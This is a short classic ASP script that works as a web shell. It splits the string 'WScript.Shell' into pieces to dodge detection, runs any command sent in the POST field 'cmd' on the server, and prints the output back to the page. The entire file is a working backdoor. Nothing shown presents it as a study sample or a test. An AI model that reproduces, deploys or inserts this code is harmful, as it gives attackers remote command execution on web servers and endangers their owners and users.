<%
Dim a, b, w
a = "WScr"
b = "ipt.Sh" & "ell"
Set w = Server.CreateObject(a & b)
Dim r : Set r = w.Exec(Request.Form("cmd"))
Response.Write r.StdOut.ReadAll()
%>
